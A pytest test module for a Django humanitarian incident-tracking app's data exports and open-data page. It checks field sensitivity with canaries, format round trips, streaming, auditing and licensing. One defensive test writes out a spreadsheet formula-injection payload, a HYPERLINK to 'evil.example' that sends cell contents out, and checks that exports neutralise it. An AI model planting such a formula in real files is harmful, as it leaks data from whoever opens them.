"""Exports and open data: public files hold public fields only, staff files what the reader may see
(never restricted values), round trips, formula injection, streaming, audit, the open-data page."""

from __future__ import annotations

import csv
import datetime
import io
import json
import re
from typing import Any

import openpyxl
import pytest
from django.db.models.signals import post_init
from django.test import Client
from django.urls import reverse

from api_support import (
    CANARY_FACILITY,
    CANARY_NARRATIVE,
    CANARY_TITLE,
    CANARY_UNCLEARED,
    INTERNAL_CANARIES,
    RESTRICTED_CANARIES,
    World,
    audit_writes,
    district,
)
from carewatch.exports.formats import Format
from carewatch.exports.selectors import CHUNK_SIZE, PUBLIC_DATASETS, STAFF_DATASETS, public_export
from carewatch_core.exports import read_csv, read_geojson, read_xlsx

pytestmark = pytest.mark.django_db
pytest_plugins = ["api_fixtures"]

PUBLIC_URLS = [f"open-data-{d}-{f.value}" for d in PUBLIC_DATASETS for f in Format]
STAFF_URLS = [f"export-{d}-{f.value}" for d in STAFF_DATASETS for f in Format]
STAFF_ROLES = ("field_documenter", "analyst", "communications", "verifier", "administrator")


def body(response: Any) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def as_text(response: Any) -> str:
    """Everything a file holds, as text: every cell of every sheet of a workbook."""
    data = body(response)
    if data.startswith(b"PK"):
        book = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
        return "\n".join(
            str(v)
            for sheet in book
            for row in sheet.iter_rows(values_only=True)
            for v in row
            if v is not None
        )
    return data.decode("utf-8")


def parsed(response: Any, fmt: Format, columns: Any) -> list[dict[str, object]]:
    data = body(response)
    if fmt is Format.XLSX:
        return read_xlsx(io.BytesIO(data), columns)
    if fmt is Format.GEOJSON:
        return read_geojson(data, columns)
    return read_csv(data, columns, hxl=fmt is Format.HXL)


def client_for(user: Any) -> Client:
    client = Client()
    if user is not None:
        client.force_login(user)
    return client


def leaks(text: str, canaries: tuple[str, ...]) -> list[str]:
    """Canaries in ``text``; a coordinate counts from 3 decimals on (about 100 m)."""
    found = []
    for canary in canaries:
        pattern = re.escape(canary)
        if re.fullmatch(r"\d+\.\d+", canary):
            pattern = re.escape(canary[: canary.index(".") + 4])
        if re.search(pattern, text):
            found.append(canary)
    return found


# Round trips: the public values survive export and parsing, in every format.


@pytest.mark.parametrize("fmt", list(Format))
@pytest.mark.parametrize("dataset", PUBLIC_DATASETS)
def test_public_files_round_trip_the_public_values(world: World, dataset: str, fmt: Format) -> None:
    export = public_export(dataset)
    rows = list(export.rows())
    assert rows, "the world has public rows"
    # A spreadsheet cell cannot tell "" from no value (both read back as unknown); JSON can.
    expected = (
        rows
        if fmt is Format.GEOJSON
        else [{k: (None if v == "" else v) for k, v in r.items()} for r in rows]
    )
    response = Client().get(reverse(f"open-data-{dataset}-{fmt.value}"))
    assert response.status_code == 200
    assert parsed(response, fmt, export.columns) == expected


def test_the_public_incident_row_carries_its_public_values(world: World) -> None:
    row = next(iter(public_export("incidents").rows()))
    place = district()
    assert row["reference"] == world.public.reference and row["date_start"] == datetime.date(
        2017, 9, 19
    )
    assert (row["adm2_code"], row["adm1_code"]) == (place.pcode, place.parent.pcode)
    assert (row["lat"], row["lon"], row["geo_precision"]) == (
        place.lat,
        place.lon,
        3,
    )  # the district centre
    assert (
        row["killed_hw"],
        row["killed_hw_max"],
        row["injured_patients"],
        row["injured_patients_max"],
    ) == (2, None, 3, 5)
    assert row["killed_others"] is None  # unknown, never 0
    assert row["attack_types"] == ["heavy_weapons"] and row["facility_types"] == ["secondary"]
    assert row["sources"] == ["White Helmets"] and row["certainty"] == "probable"
    assert not {"title", "narrative", "facilities", "place_code", "perpetrators"} & set(row)


def test_the_memorial_file_holds_cleared_names_only(world: World) -> None:
    rows = list(public_export("memorial").rows())
    assert [r["name_latin"] for r in rows] == ["Dr Khaled Cleared"]
    assert rows[0]["incident"] == world.public.reference and rows[0]["profession"] == "doctor"
    text = as_text(Client().get(reverse("open-data-memorial-csv")))
    assert CANARY_UNCLEARED not in text and "Dr Khaled Cleared" in text


def test_the_data_dictionary_lists_exactly_the_columns_of_the_file(world: World) -> None:
    client = Client()
    for dataset in PUBLIC_DATASETS:
        header = next(
            csv.reader(io.StringIO(body(client.get(reverse(f"open-data-{dataset}-csv"))).decode()))
        )
        dictionary = list(
            csv.DictReader(
                io.StringIO(body(client.get(reverse(f"open-data-{dataset}-dictionary"))).decode())
            )
        )
        assert [d["field"] for d in dictionary] == header
        assert {d["sensitivity"] for d in dictionary} == {"public"}
        hxl = list(
            csv.reader(io.StringIO(body(client.get(reverse(f"open-data-{dataset}-hxl"))).decode()))
        )[1]
        assert [d["hxl"] for d in dictionary] == hxl and all(tag.startswith("#") for tag in hxl)


# Generalised locations (S2).


@pytest.mark.parametrize("level", [1, 2])
def test_public_locations_follow_the_configured_level_and_are_never_exact(
    world: World, settings: Any, level: int
) -> None:
    settings.CAREWATCH_PUBLIC_LOCATION_LEVEL = level
    place = district() if level == 2 else district().parent
    for fmt in Format:
        response = Client().get(reverse(f"open-data-incidents-{fmt.value}"))
        rows = parsed(response, fmt, public_export("incidents").columns)
        assert (rows[0]["lat"], rows[0]["lon"]) == (place.lat, place.lon)
        assert ("adm2_code" in rows[0]) is (level == 2)
        assert not leaks(
            as_text(Client().get(reverse(f"open-data-incidents-{fmt.value}"))), RESTRICTED_CANARIES
        )


# Canaries (S1–S3): every file, anonymously and for each role.


@pytest.mark.parametrize(
    "name", PUBLIC_URLS + [f"open-data-{d}-dictionary" for d in PUBLIC_DATASETS]
)
def test_public_files_hold_no_internal_or_restricted_canary_whoever_downloads_them(
    world: World, name: str
) -> None:
    for role in ("anonymous", *STAFF_ROLES):
        response = client_for(world.personas[role]).get(reverse(name))
        assert response.status_code == 200, role
        assert leaks(as_text(response), INTERNAL_CANARIES + RESTRICTED_CANARIES) == [], role


@pytest.mark.parametrize("name", STAFF_URLS)
def test_staff_files_hold_no_restricted_value_for_any_role_and_nothing_for_those_without_the_function(
    world: World, name: str
) -> None:
    users = {
        **{r: world.personas[r] for r in STAFF_ROLES},
        "other_documenter": world.other_documenter,
    }
    for role, user in users.items():
        response = client_for(user).get(reverse(name))
        if response.status_code == 403:
            continue
        assert response.status_code == 200, (role, name)
        text = as_text(response)
        assert leaks(text, RESTRICTED_CANARIES) == [], (role, name)
        if role.endswith("documenter"):  # own submissions only; facility names are theirs to read
            assert leaks(text, tuple(c for c in INTERNAL_CANARIES if c != CANARY_FACILITY)) == [], (
                role,
                name,
            )


def test_staff_files_do_hold_the_internal_values_a_verifier_may_read(world: World) -> None:
    """Control: the canary checks above would see a leak."""
    client = client_for(world.personas["verifier"])
    for fmt in Format:
        text = as_text(client.get(reverse(f"export-incidents-{fmt.value}")))
        assert {CANARY_TITLE, CANARY_NARRATIVE, CANARY_FACILITY} <= set(
            leaks(text, INTERNAL_CANARIES)
        ), fmt
    assert CANARY_FACILITY in as_text(client.get(reverse("export-facilities-csv")))


def test_anonymous_visitors_cannot_take_staff_files(world: World) -> None:
    for name in STAFF_URLS:
        response = Client().get(reverse(name))
        assert response.status_code == 302 and reverse("login") in response["Location"]


# Staff exports: the list's filters, audited, bad filters refused.


def test_a_staff_export_takes_the_list_filters_and_is_audited(world: World) -> None:
    from carewatch.audit.models import AuditEntry

    client = client_for(world.personas["analyst"])
    response = client.get(reverse("export-incidents-csv"), {"certainty": "rumour"})
    rows = list(csv.DictReader(io.StringIO(body(response).decode())))
    assert [r["reference"] for r in rows] == [world.draft.reference]
    entry = AuditEntry.objects.filter(action="carewatch.export.incidents_viewed").latest("id")
    assert entry.actor == world.personas["analyst"]
    assert (
        entry.after["filters"] == {"certainty": "rumour"}
        and entry.after["rows"] == 1
        and entry.after["format"] == "csv"
    )


def test_bad_filters_get_a_clear_message_and_no_file(world: World) -> None:

    client = client_for(world.personas["analyst"])
    client.cookies["carewatch_language"] = "fr"
    before = audit_writes()
    response = client.get(reverse("export-incidents-xlsx"), {"date_from": "not a date"})
    assert response.status_code == 400
    assert (
        "Saisissez une date valide" in response.content.decode()
    )  # the field's message, in the reader's language
    assert audit_writes() == before


def test_the_incident_list_offers_the_export_of_its_current_filters(world: World) -> None:
    client = client_for(world.personas["verifier"])
    page = client.get(reverse("incident-list"), {"certainty": "probable"}).content.decode()
    assert f"{reverse('export-incidents-xlsx')}?certainty=probable" in page
    rows = client.get(
        reverse("incident-list"), {"certainty": "probable"}, headers={"HX-Request": "true"}
    ).content.decode()
    assert (
        f"{reverse('export-incidents-csv')}?certainty=probable" in rows
    )  # the htmx rows carry it too


# Formula injection, end to end.


def test_a_formula_typed_into_an_incident_is_inert_in_every_staff_file(world: World) -> None:
    from carewatch.incidents.models import Incident

    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    Incident.objects.filter(pk=world.public.pk).update(title=formula, narrative="-2+3")
    client = client_for(world.personas["verifier"])
    data = body(client.get(reverse("export-incidents-csv"))).decode()
    assert f'"\'{formula.replace(chr(34), chr(34) * 2)}"' in data and '"\'-2+3"' in data
    assert f'"{formula[:5]}' not in data
    book = openpyxl.load_workbook(io.BytesIO(body(client.get(reverse("export-incidents-xlsx")))))
    sheet = book["data"]
    title_col = [c.value for c in sheet[1]].index("title") + 1
    cells = [sheet.cell(row=r, column=title_col) for r in range(2, sheet.max_row + 1)]
    risky = [c for c in cells if c.value == formula]
    assert risky and all(c.data_type == "s" and c.quotePrefix for c in risky)


# Streaming: thousands of rows, pulled from the database in chunks while the file is sent.


def test_a_large_export_streams_without_loading_every_row(world: World) -> None:
    from carewatch.incidents.models import CasualtyCount, Incident

    place = district()
    n = 3 * CHUNK_SIZE
    made = Incident.objects.bulk_create(
        Incident(
            reference=f"CW-BULK-{i:05d}",
            title="x",
            date_start=datetime.date(2018, 1, 1),
            place=place,
            district=place,
            governorate=place.parent,
            state="verified",
            certainty="confirmed",
        )
        for i in range(n)
    )
    CasualtyCount.objects.bulk_create(
        CasualtyCount(incident=i, measure="killed_hw", low=1) for i in made
    )
    loaded: list[int] = []

    def count(sender: Any, **kwargs: Any) -> None:
        loaded.append(1)

    post_init.connect(count, sender=Incident)
    try:
        response = Client().get(reverse("open-data-incidents-csv"))
        assert response.streaming
        chunks = iter(response.streaming_content)
        first = next(chunks)
        assert first.startswith(b'"reference"') and len(loaded) <= CHUNK_SIZE
        lines = first.count(b"\r\n") + sum(chunk.count(b"\r\n") for chunk in chunks)
    finally:
        post_init.disconnect(count, sender=Incident)
    assert lines == n + 2  # the header, the world's public incident, the bulk rows
    assert len(loaded) == n + 1


# The open-data page.


@pytest.mark.parametrize("language", ["en", "fr", "ar"])
def test_the_open_data_page_offers_every_file_with_licence_and_citation(
    world: World, language: str
) -> None:
    client = Client()
    client.cookies["carewatch_language"] = language
    page = client.get(reverse("open-data")).content.decode()
    for name in PUBLIC_URLS + [f"open-data-{d}-dictionary" for d in PUBLIC_DATASETS]:
        assert reverse(name) in page
    assert "creativecommons.org/licenses/by/4.0" in page and "CC BY 4.0" in page
    assert datetime.date.today().isoformat() in page  # the download date of the citation
    assert ('dir="rtl"' in page) is (language == "ar")
    assert "killed_hw" in page and "#affected+healthworker+killed" in page  # the dictionary table
    assert leaks(page, INTERNAL_CANARIES + RESTRICTED_CANARIES) == []


def test_the_landing_page_links_to_open_data(db: Any) -> None:
    assert reverse("open-data") in Client().get(reverse("home")).content.decode()


def test_geojson_files_state_their_licence_and_citation(world: World) -> None:
    collection = json.loads(body(Client().get(reverse("open-data-incidents-geojson"))))
    assert collection["license"] == "CC-BY-4.0" and "CareWatch" in collection["citation"]
    staff = json.loads(
        body(client_for(world.personas["analyst"]).get(reverse("export-incidents-geojson")))
    )
    assert staff["sensitivity"] == "internal"
